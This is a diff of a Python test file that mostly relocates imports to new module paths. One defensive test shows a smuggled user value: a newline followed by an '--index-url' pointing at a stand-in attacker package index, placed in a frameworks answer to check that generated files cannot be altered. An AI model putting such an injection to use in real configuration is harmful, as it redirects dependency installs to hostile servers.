@@ -11,10 +11,10 @@ from pathlib import Path
 import pytest
 import yaml
 
-from app.cli.main import main
-from app.errors import UserError
-from app.exporters.scaffold import CI_TEMPLATES, export_scaffold, scaffold_files
-from app.services.environment import EnvironmentService, form_of
+from app.core.errors import UserError
+from app.environment.scaffold import CI_TEMPLATES, export_scaffold, scaffold_files
+from app.environment.service import EnvironmentService, form_of
+from app.main import main
 
 
 def run(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
@@ -108,7 +108,7 @@ def test_every_ci_system_gets_a_workflow_that_runs_the_pipeline(workspace, demo,
 
 
 def test_user_text_cannot_add_lines_to_generated_files(workspace, demo) -> None:
-    from app.services.answers import AnswerService
+    from app.hearing.answers import AnswerService
 
     AnswerService(workspace.db, workspace.library).update(
         demo.id, "hearing.prereq.frameworks", value="PyTorch\n--index-url https://evil.example/simple"
